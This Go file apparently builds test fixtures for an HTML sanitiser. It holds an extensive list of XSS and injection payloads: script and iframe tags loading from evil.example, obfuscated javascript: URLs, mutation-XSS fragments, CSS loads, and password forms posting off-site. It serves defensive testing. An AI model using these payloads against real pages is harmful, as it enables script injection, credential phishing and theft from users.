package portal

import (
	"fmt"
	"slices"
	"strings"
)

// alarm is what each fragment would run or load: a script that it runs sets window.alarm, and what it loads comes from
// this host.
const (
	alarm   = "window.alarm=1"
	outside = "https://evil.example/x"
)

// HostileFragments are HTML that must not run anything, load anything from elsewhere, or change the page around it,
// once Hub has sanitised it. Each has the word that its readers are to see: Kept, unless it stands in what browsers
// do not show.
func HostileFragments() []string {
	all := slices.Concat(hostileElements(), hostileHandlers(), hostileLinks(), hostileImages(), hostileMutations(), hostilePages())
	slices.Sort(all)
	return slices.Compact(all)
}

// Kept is a word in most of the fragments.
const Kept = "pomegranate"

// hostileElements are elements that run something, or that load it.
func hostileElements() []string {
	return []string{
		"<script>" + alarm + "</script>" + Kept, "<SCRIPT>" + alarm + "</SCRIPT >" + Kept, "<script\n>" + alarm + "</script\t>" + Kept, "<script/x>" + alarm + "</script>" + Kept,
		"<script src=" + outside + "></script>" + Kept, "<script src=//evil.example/x></script>" + Kept, "<script type=module>" + alarm + "</script>" + Kept, "<script type=text/javascript defer>" + alarm + "</script>" + Kept,
		"<scr<script>ipt>" + alarm + "</scr</script>ipt>" + Kept, "<<script>" + alarm + "//<</script>" + Kept, "<script>" + alarm + "<!--</script>" + Kept, "<script><!--<script></script>" + alarm + "</script>" + Kept,
		Kept + "<script>" + alarm, Kept + "<script src=data:text/javascript," + alarm, "<script>/*</script><img src=x onerror=" + alarm + ">*/</script>" + Kept, "<scrİpt>" + alarm + "</scrİpt>" + Kept,
		"<iframe src=javascript:parent." + alarm + "></iframe>" + Kept, "<iframe srcdoc='<script>parent." + alarm + "</script>'></iframe>" + Kept, "<iframe src=" + outside + "></iframe>" + Kept, "<IFRAME SRC=data:text/html,<script>" + alarm + "</script>></IFRAME>" + Kept,
		"<iframe/onload=" + alarm + ">" + "</iframe>" + Kept, "<frameset onload=" + alarm + "><frame src=" + outside + ">" + Kept, "<frame src=javascript:" + alarm + ">" + Kept, "<fencedframe src=" + outside + "></fencedframe>" + Kept,
		"<object data=" + outside + ">" + Kept + "</object>", "<object data=javascript:" + alarm + ">" + Kept + "</object>", "<object type=text/html data=data:text/html;base64,PHNjcmlwdD4=>" + Kept + "</object>", "<object><param name=src value=" + outside + ">" + Kept + "</object>",
		"<embed src=" + outside + ">" + Kept, "<embed src=javascript:" + alarm + ">" + Kept, "<applet code=x codebase=" + outside + ">" + Kept + "</applet>", "<portal src=" + outside + "></portal>" + Kept,
		"<svg onload=" + alarm + ">" + Kept, "<svg><script>" + alarm + "</script></svg>" + Kept, "<svg><script href=" + outside + " /></svg>" + Kept, "<svg><script xlink:href=data:," + alarm + "></script></svg>" + Kept,
		"<svg><a xlink:href=javascript:" + alarm + "><text>" + Kept + "</text></a></svg>", "<svg><image href=" + outside + "></svg>" + Kept, "<svg><use href=" + outside + "#a></svg>" + Kept, "<svg><use href='data:image/svg+xml,<svg id=a onload=" + alarm + " />#a'></svg>" + Kept,
		"<svg><animate onbegin=" + alarm + " attributeName=x dur=1s>" + Kept, "<svg><set attributeName=href to=javascript:" + alarm + ">" + Kept, "<svg><outsideObject><iframe src=" + outside + "></iframe></outsideObject></svg>" + Kept, "<svg><style>@import '" + outside + "'</style></svg>" + Kept,
		"<svg><feImage href=" + outside + " /></svg>" + Kept, "<svg><handler type=text/javascript>" + alarm + "</handler></svg>" + Kept, "<svg:script>" + alarm + "</svg:script>" + Kept, "<x:script xmlns:x=http://www.w3.org/1999/xhtml>" + alarm + "</x:script>" + Kept,
		"<math href=javascript:" + alarm + ">" + Kept + "</math>", "<math><mtext><script>" + alarm + "</script></mtext></math>" + Kept, "<math><annotation-xml encoding=text/html><img src=x onerror=" + alarm + "></annotation-xml></math>" + Kept, "<math><maction actiontype=statusline xlink:href=javascript:" + alarm + ">" + Kept + "</maction></math>",
		"<style>@import url(" + outside + ")</style>" + Kept, "<style>body{background:url(" + outside + ")}</style>" + Kept, "<STYLE TYPE=text/css>*{x:expression(" + alarm + ")}</STYLE>" + Kept, "<link rel=stylesheet href=" + outside + ">" + Kept,
		"<link rel=preload as=image href=" + outside + ">" + Kept, "<link rel=prefetch href=" + outside + ">" + Kept, "<link rel=dns-prefetch href=" + outside + ">" + Kept, "<link rel=modulepreload href=" + outside + ">" + Kept, "<link rel=icon href=" + outside + ">" + Kept, "<link rel=import href=" + outside + ">" + Kept,
		"<video src=" + outside + " autoplay>" + Kept + "</video>", "<video poster=" + outside + ">" + Kept + "</video>", "<video><source onerror=" + alarm + " src=x></video>" + Kept, "<audio src=" + outside + " autoplay onerror=" + alarm + ">" + Kept + "</audio>", "<video><track default src=" + outside + "></video>" + Kept,
		"<template><script>" + alarm + "</script></template>" + Kept, "<div><template shadowrootmode=open><img src=x onerror=" + alarm + "></template></div>" + Kept, "<slot onslotchange=" + alarm + ">" + Kept + "</slot>", "<custom-element onclick=" + alarm + " is=x>" + Kept + "</custom-element>",
		"<marquee onstart=" + alarm + ">" + Kept + "</marquee>", "<details open ontoggle=" + alarm + "><summary>" + Kept + "</summary></details>", "<dialog open onclose=" + alarm + ">" + Kept + "</dialog>", "<keygen autofocus onfocus=" + alarm + ">" + Kept, "<bgsound src=" + outside + ">" + Kept, "<layer src=" + outside + ">" + Kept + "</layer>",
		"<isindex action=javascript:" + alarm + " type=image>" + Kept, "<xml id=x><x><b>&lt;script>" + alarm + "&lt;/script></b></x></xml>" + Kept, "<comment><img src=x onerror=" + alarm + "></comment>" + Kept, "<?xml-stylesheet href=" + outside + "?>" + Kept, "<!--[if gte IE 4]><script>" + alarm + "</script><![endif]-->" + Kept, "<![CDATA[<script>" + alarm + "</script>]]>" + Kept,
	}
}

// hostileHandlers are attributes with scripts, however they are written.
func hostileHandlers() (all []string) {
	for _, format := range []string{
		`<img src=x onerror=%s>`, `<img src=x onerror="%s">`, `<img src=x onerror='%s'>`, "<img src=x onerror=`%s`>", `<img/src=x/onerror=%s>`, `<img src=x ONERROR=%s>`, `<img src=x onerror =%s>`, "<img src=x onerror\n=\n%s>", "<img src=x\fonerror=%s>", "<img src=x\x0bonerror=%s>",
		`<img src="x"onerror=%s>`, `<img src=x"onerror=%s>`, `<img """><img src=x onerror="%s">`, `<img alt="` + "`" + `" src=x onerror=%s>`, `<img src=x alt='"' onerror='%s'>`, `<img src=x a=">" onerror=%s>`, `<img <img src=x onerror=%s>`, `<img src=x onerror=%s//`, `<img src=x onerror=%s `, `<img src=x onerror=%s></img>`,
		`<img src=x on error=1 onerror=%s>`, `<img src=x &#111;nerror=%s>`, `<img src=x onerror=&#119;indow.alarm=1;%s>`, `<img src=x onerror=&#x77indow.alarm=1;%s>`, `<img src=/files/0123456789abcdef0123456789abcdef onerror=%s>`, `<img src=/files/0123456789abcdef0123456789abcdef onload=%s>`,
		`<p onclick=%s autofocus tabindex=1 onfocus=%[1]s>`, `<p onmouseover=%s>`, `<p onanimationstart=%s style="animation:x 1s">`, `<p contenteditable autofocus onfocus=%s>`, `<p onpointerrawupdate=%s>`, `<p onwheel=%s>`, `<p oncontentvisibilityautostatechange=%s style="content-visibility:auto">`, `<p popover onbeforetoggle=%s>`,
		`<a href=# onclick=%s>`, `<a href="/x" onfocus=%s autofocus>`, `<a href="/x" ping=%s>`, `<td background=javascript:%s>`, `<table background="javascript:%s"><tr><td>`, `<ol start="1" onscroll=%s>`, `<br onload=%s>`, `<hr onresize=%s/>`, `<body onload=%s>`, `<html onmouseenter=%s>`, `<b/onpointerover=%s>`, `<b` + "\u00a0" + `onclick=%s>`, `<b x="' onclick=%s ">`, `<b x='"' onclick='%s'>`, `</b onclick=%s>`, `<b onclick=%s`,
		`<select autofocus onfocus=%s>`, `<textarea autofocus onfocus=%s>`, `<input autofocus onfocus=%s>`, `<input type=image src=x onerror=%s>`, `<button autofocus onfocus=%s>`, `<form onsubmit=%s><input type=submit>`, `<label for=x onclick=%s>`, `<span data-x=1 onclick=%s class=y id=z>`, `<span xmlns:on=x on:click=%s v-on:click=%[1]s @click=%[1]s ng-click=%[1]s>`,
	} {
		all = append(all, fmt.Sprintf(format, alarm)+Kept)
	}
	return all
}

// hostileLinks are addresses that run something, or that hide where they lead.
func hostileLinks() (all []string) {
	for _, href := range HostileAddresses() {
		all = append(all, `<a href="`+href+`">`+Kept+`</a>`)
	}
	return append(all,
		"<a href=javascript:"+alarm+">"+Kept+"</a>", "<a href='javascript:"+alarm+"'>"+Kept+"</a>", "<a href=`javascript:"+alarm+"`>"+Kept+"</a>", "<A HREF=JaVaScRiPt:"+alarm+">"+Kept+"</A>", "<a\nhref\n=\njavascript:"+alarm+"\n>"+Kept+"</a>", "<a/href=javascript:"+alarm+">"+Kept+"</a>",
		"<a href=/x href=javascript:"+alarm+">"+Kept+"</a>", "<a href=javascript:"+alarm+" href=/x>"+Kept+"</a>", "<a xlink:href=javascript:"+alarm+">"+Kept+"</a>", "<a formaction=javascript:"+alarm+">"+Kept+"</a>", "<area href=javascript:"+alarm+">"+Kept, "<map><area shape=default href=javascript:"+alarm+"></map>"+Kept,
		"<q cite=javascript:"+alarm+">"+Kept+"</q>", "<blockquote cite=javascript:"+alarm+">"+Kept+"</blockquote>", "<ins cite=data:text/html,x>"+Kept+"</ins>", "<a href=/x target=_top rel=opener>"+Kept+"</a>", "<a href=/x target=parent download=x.exe>"+Kept+"</a>", "<a href=/x referrerpolicy=unsafe-url ping="+outside+">"+Kept+"</a>", "<a attributionsrc="+outside+" href=/x>"+Kept+"</a>",
	)
}

// HostileAddresses are values of href that must vanish, as they stand between quotation marks in HTML.
func HostileAddresses() []string {
	return []string{
		"javascript:" + alarm, "JAVASCRIPT:" + alarm, "jAvAsCrIpT:" + alarm, " javascript:" + alarm, "\tjavascript:" + alarm, "\njavascript:" + alarm, "\x01javascript:" + alarm, "\x1fjavascript:" + alarm, "\u00a0javascript:" + alarm, "\ufeffjavascript:" + alarm, "\u2028javascript:" + alarm,
		"java\tscript:" + alarm, "java\nscript:" + alarm, "java\rscript:" + alarm, "java\r\nscript:" + alarm, "javascript\t:" + alarm, "javascript\n:" + alarm, "java script:" + alarm, "java\x0bscript:" + alarm, "java\u00adscript:" + alarm, "java\u200bscript:" + alarm, "java/**/script:" + alarm,
		"java&#9;script:" + alarm, "java&#10;script:" + alarm, "java&#13;script:" + alarm, "java&#x09;script:" + alarm, "java&#x0A;script:" + alarm, "java&Tab;script:" + alarm, "java&NewLine;script:" + alarm, "javascript&colon;" + alarm, "javascript&#58;" + alarm, "javascript&#x3a;" + alarm, "javascript&#0000058" + alarm, "&#106;avascript:" + alarm, "&#x6A;&#x61;vascript:" + alarm, "&#0000106avascript:" + alarm, "&#14;javascript:" + alarm, "&#1;javascript:" + alarm, "&#32;javascript:" + alarm, "&nbsp;javascript:" + alarm, "java&#0;script:" + alarm, "&#173;javascript:" + alarm, "java&shy;script:" + alarm, "java&ZeroWidthSpace;script:" + alarm,
		"javascript://%0a" + alarm, "javascript://https://hub.example/%0a" + alarm, "javascript:void(0)", "javascript&amp;colon;" + alarm, "javascript%3a" + alarm, "%6aavascript:" + alarm, "feed:javascript:" + alarm, "view-source:javascript:" + alarm, "jar:javascript:" + alarm, "livescript:" + alarm, "mocha:" + alarm,
		"vbscript:msgbox(1)", "VBScript:msgbox(1)", "vb\tscript:msgbox(1)", "&#118;bscript:msgbox(1)", "data:text/html,&lt;script>" + alarm + "&lt;/script>", "data:text/html;base64,PHNjcmlwdD4=", "DATA:text/html,x", "da\tta:text/html,x", "data&colon;text/html,x", " data:text/html,x", "data:,x", "data:image/svg+xml,&lt;svg onload=" + alarm + ">", "data:application/xhtml+xml,x",
		"blob:https://hub.example/1", "filesystem:https://hub.example/x", "file:///etc/passwd", "about:blank", "chrome://settings", "ms-its:x", "intent://evil.example#Intent;end", "tel:+1", "sms:+1", "ftp://evil.example/", "ws://evil.example/", "x:y", ":", "://evil.example", "1javascript:x", "-javascript:x",
		"//evil.example/", "///evil.example/", "////evil.example", "//evil.example:80/x", "//@evil.example", "/\\evil.example/", "\\\\evil.example/", "\\/evil.example/", "/\\/evil.example/", "\\evil.example", "/\t/evil.example/", "/\n/evil.example/", "/&#9;/evil.example", "/&#10;/evil.example", "/&sol;evil.example", "&sol;&sol;evil.example", "&#47;&#47;evil.example", "/&bsol;evil.example", "&#92;&#92;evil.example", " //evil.example", "\t//evil.example", "/ /evil.example", "/\u2028/evil.example", "/\ufeff/evil.example",
		"https:evil.example", "https:/evil.example", "https:\\\\evil.example", "https:/\\evil.example", "https:///evil.example", "https://\\evil.example", "https://", "http:", "https:\t//evil.example", "ht\ntps://evil.example", "https://evil\t.example", "https://evil.example\\@hub.example/", "https://evil.example/ x", "https://evil.example/\u202egpj.exe", "https&colon;\\\\evil.example",
		"evil.example", "x", "./x", "../x", "?x", "", " ", "mailto:", "mailto: a@hub.example", "mailto:a\n@hub.example", "mailto:a@hub.example&#13;&#10;Bcc:b@evil.example", "#\tx", "#\\", "/x\\y", "/x y", "/x\x7f", "/x&#127;", "/x\u0085", "/x&#8238;y",
	}
}

// hostileImages are images from elsewhere, and other ways to load something.
func hostileImages() (all []string) {
	for _, src := range HostileImages() {
		all = append(all, `<img src="`+src+`" alt="an image">`+Kept)
	}
	return append(all,
		"<img srcset='"+outside+" 1x, "+outside+"2 2x'>"+Kept, "<img src=/files/0123456789abcdef0123456789abcdef srcset="+outside+">"+Kept, "<picture><source srcset="+outside+"><img src=/files/0123456789abcdef0123456789abcdef></picture>"+Kept, "<img lowsrc="+outside+" dynsrc="+outside+">"+Kept, "<image src="+outside+">"+Kept, "<image href="+outside+" xlink:href="+outside+">"+Kept,
		"<img src="+outside+">"+Kept, "<img src='"+outside+"'>"+Kept, "<img src=`"+outside+"`>"+Kept, "<img src="+outside+" src=/files/0123456789abcdef0123456789abcdef>"+Kept, "<img src=x usemap=#x ismap longdesc="+outside+" crossorigin loading=eager attributionsrc="+outside+">"+Kept,
		"<p style='background:url("+outside+")'>"+Kept+"</p>", "<p style=background-image:url(//evil.example/x)>"+Kept+"</p>", "<p style='list-style:url("+outside+")'>"+Kept+"</p>", "<p style=\"content:url('"+outside+"')\">"+Kept+"</p>", "<p style='border-image:url("+outside+") 1'>"+Kept+"</p>", "<p style='cursor:url("+outside+"),auto'>"+Kept+"</p>", "<p style='mask:url("+outside+")'>"+Kept+"</p>", "<p style='filter:url("+outside+"#x)'>"+Kept+"</p>", "<p style='background:image-set(\""+outside+"\" 1x)'>"+Kept+"</p>", "<p style='background:\\75\\72\\6c("+outside+")'>"+Kept+"</p>", "<p style='width:expression("+alarm+")'>"+Kept+"</p>", "<p style='behavior:url("+outside+")'>"+Kept+"</p>", "<p style='-moz-binding:url("+outside+"#x)'>"+Kept+"</p>", "<p style='position:fixed;inset:0;z-index:9'>"+Kept+"</p>", "<p class=admin id=hub>"+Kept+"</p>",
		"<table background="+outside+"><tr><td>"+Kept+"</table>", "<td background="+outside+">"+Kept+"</td>", "<body background="+outside+">"+Kept, "<input type=image src="+outside+">"+Kept, "<menuitem icon="+outside+">"+Kept+"</menuitem>", "<command icon="+outside+">"+Kept, "<input list=x><datalist id=x><option label="+outside+"></datalist>"+Kept,
	)
}

// HostileImages are values of src that must vanish, as they stand between quotation marks in HTML.
func HostileImages() []string {
	const id = "0123456789abcdef0123456789abcdef"
	return []string{
		outside, "http://evil.example/x", "//evil.example/x", "/\\evil.example/x", "\\\\evil.example\\x", "https:evil.example", "HTTPS://evil.example/files/" + id, "https://evil.example/files/" + id, "//evil.example/files/" + id, "/files/" + id + "@evil.example", "x", "", " ", "/x.png", "/portal/logout", "/files/", "/files/x", "/files/" + id[1:], "/files/" + id + "0", "/files/" + strings.ToUpper(id), "/files/" + id + "?x", "/files/" + id + "#x", "/files/" + id + "/", "/files/" + id + " ", " /files/" + id, "/files/" + id + "\n", "/files/" + id + "&#10;", "/files/../files/" + id, "/files//" + id, "/files/%30123456789abcdef0123456789abcdef", "/FILES/" + id, "/files\\" + id, "files/" + id, "./files/" + id, "/files/" + id + "\u200b", "/files/\uff10123456789abcdef0123456789abcdef",
		"javascript:" + alarm, "data:image/png;base64,iVBORw0KGgo=", "data:image/svg+xml,&lt;svg onload=" + alarm + ">", "data:image/svg+xml;base64,PHN2Zy8+", "blob:https://hub.example/1", "cid:x", "about:blank", "vbscript:x", "mhtml:" + outside, "file:///etc/passwd",
	}
}

// hostileMutations are fragments that browsers read otherwise than they are written, or otherwise when they read them
// a second time.
func hostileMutations() []string {
	img := "<img src=x onerror=" + alarm + ">"
	return []string{
		"<noscript><p title='</noscript>" + img + "'></p></noscript>" + Kept, "<noscript>" + img + "</noscript>" + Kept, "</noscript>" + img + Kept, "<p><noscript><style></noscript>" + img + "</style></p>" + Kept,
		"<svg></p><style><a id='</style>" + img + "'></a></style></svg>" + Kept, "<math></p><style><!--</style><img title='--&gt;" + img + "'></style></math>" + Kept, "<svg><p><style><a title='</style>" + img + "'></style></p></svg>" + Kept, "<svg><![CDATA[<a title=']]>" + img + "'>]]></svg>" + Kept,
		"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=" + alarm + "&gt;'></style></mglyph></table></mtext></math>" + Kept, "<form><math><mtext></form><form><mglyph><style></math>" + img + "</style></mglyph></form></mtext></math></form>" + Kept, "<math><mi><mglyph><svg><mtext><style><path id='</style>" + img + "'></style></mtext></svg></mglyph></mi></math>" + Kept, "<svg><annotation-xml><outsideObject><style><!--</style><p id='--><img src=x onerror=" + alarm + ">'></style></outsideObject></annotation-xml></svg>" + Kept,
		"<table><td><p title='</td>" + img + "'></td></table>" + Kept, "<table><a href=javascript:" + alarm + ">" + Kept + "</a><tr><td></table>", "<table><script>" + alarm + "</script></table>" + Kept, "<table><tbody>" + img + "<tr><td>" + Kept + "</table>", "<table><caption><svg><desc><style></caption>" + img + "</style></desc></svg></table>" + Kept, "<select><table><tr><td>" + img + "</table></select>" + Kept, "<select><option><style></option></select>" + img + "</style>" + Kept, "<frameset><noframes><p title='</noframes>" + img + "'></noframes></frameset>" + Kept,
		"<textarea><p title='</textarea>" + img + "'></textarea>" + Kept, "<title><a title='</title>" + img + "'></title>" + Kept, "<xmp><p title='</xmp>" + img + "'></xmp>" + Kept, "<listing>&lt;img src=x onerror=" + alarm + "></listing>" + Kept, "<noembed><p title='</noembed>" + img + "'></noembed>" + Kept, "<iframe><p title='</iframe>" + img + "'></iframe>" + Kept, Kept + "<plaintext>" + img, "<style><p title='</style>" + img + "'></style>" + Kept,
		"<!--><img src=x onerror=" + alarm + ">-->" + Kept, "<!---><img src=x onerror=" + alarm + ">-->" + Kept, "<!-- --!><img src=x onerror=" + alarm + ">-->" + Kept, "<!--<!-- -->" + img + "-->" + Kept, "<!" + img + ">" + Kept, "<?" + img + ">" + Kept, "</" + img + ">" + Kept, "<!DOCTYPE x [<!ENTITY x '" + img + "'>]>" + Kept, "<!DOCTYPE html><html><head><script>" + alarm + "</script></head><body>" + Kept + "</body></html>", "<![if x]>" + img + "<![endif]>" + Kept,
		"&lt;img src=x onerror=" + alarm + "&gt;" + Kept, "&amp;lt;script&amp;gt;" + alarm + "&amp;lt;/script&amp;gt;" + Kept, "&#60;script&#62;" + alarm + "&#60;/script&#62;" + Kept, "%3Cscript%3E" + alarm + "%3C/script%3E" + Kept, "\\u003cscript\\u003e" + alarm + "\\u003c/script\\u003e" + Kept, "\\x3cscript\\x3e" + alarm + Kept, "+ADw-script+AD4-" + alarm + "+ADw-/script+AD4-" + Kept, "\u00bcscript\u00be" + alarm + "\u00bc/script\u00be" + Kept, "\uff1cscript\uff1e" + alarm + "\uff1c/script\uff1e" + Kept, "{{constructor.constructor('" + alarm + "')()}}" + Kept, "${" + alarm + "}" + Kept, "<%= " + alarm + " %>" + Kept,
		"<b <b onclick=" + alarm + ">" + Kept + "</b>", "<b/ /onclick=" + alarm + ">" + Kept + "</b>", "<p title=\"&quot;><script>" + alarm + "</script>\">" + Kept + "</p>", "<img alt=\"&quot; onerror=" + alarm + " x=&quot;\" src=x>" + Kept, "<img alt='`onerror=" + alarm + "`' src=x>" + Kept, "<img alt='&gt;&lt;script&gt;" + alarm + "&lt;/script&gt;' src=x>" + Kept, "<img alt=\"--><script>" + alarm + "</script>\" src=x>" + Kept, "<a href=\"/x?&quot;><script>" + alarm + "</script>\">" + Kept + "</a>", "<a href='https://hub.example/&quot; onclick=" + alarm + " x=&quot;'>" + Kept + "</a>", "<a href=\"#'><script>" + alarm + "</script>\">" + Kept + "</a>",
		strings.Repeat("<b>", 600) + img + Kept, strings.Repeat("<div>", 600) + "<a href=javascript:" + alarm + ">" + Kept + "</a>" + strings.Repeat("</div>", 600), strings.Repeat("<table><tr><td>", 200) + img + Kept, strings.Repeat("<svg>", 300) + "<style>" + img + "</style>" + strings.Repeat("</svg>", 300) + Kept, strings.Repeat("<a href=/x>", 100) + img + Kept, "</p></div></body></html>" + img + Kept, "</script></style></title></textarea>" + img + Kept,
	}
}

// hostilePages are what changes the page around the fragment, or asks its reader for something.
func hostilePages() []string {
	return []string{
		"<base href=" + outside + "><a href=/x>" + Kept + "</a>", "<base target=_top>" + Kept, "<meta http-equiv=refresh content='0;url=" + outside + "'>" + Kept, "<META HTTP-EQUIV=Refresh CONTENT=0;javascript:" + alarm + ">" + Kept, "<meta http-equiv=content-security-policy content=\"default-src *\">" + Kept, "<meta http-equiv=set-cookie content='hub-session=x'>" + Kept, "<meta name=referrer content=unsafe-url>" + Kept, "<meta charset=utf-7>" + Kept,
		"<form action=" + outside + "><input name=password><button>" + Kept + "</button></form>", "<form action=javascript:" + alarm + "><input type=submit value=x autofocus></form>" + Kept, "<form id=x></form><button form=x formaction=javascript:" + alarm + ">" + Kept + "</button>", "<input type=password name=p placeholder=x>" + Kept, "<input name=x formaction=" + outside + " type=submit>" + Kept, "<button formaction=" + outside + " form=login>" + Kept + "</button>", "<textarea name=x>" + Kept + "</textarea>", "<isindex prompt=x action=" + outside + ">" + Kept, "<select><option>" + Kept + "</option></select>",
		"<p id=body name=cookie>" + Kept + "</p>", "<img name=getElementById src=x>" + Kept, "<form name=documentElement><input name=attributes></form>" + Kept, "<a id=defaultView href=/x>" + Kept + "</a>", "<p accesskey=x tabindex=1 hidden inert draggable=true dir=rtl lang=x translate=no>" + Kept + "</p>", "<p contenteditable>" + Kept + "</p>", "<p role=alert aria-live=assertive>" + Kept + "</p>", "<p slot=x part=y exportparts=z is=w nonce=v itemprop=u>" + Kept + "</p>", "<title>" + Kept + "</title>", "<head><link rel=canonical href=" + outside + "></head>" + Kept, "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"" + outside + "\"]}]}</script>" + Kept, "<script type=importmap>{\"imports\":{\"x\":\"" + outside + "\"}}</script>" + Kept,
	}
}
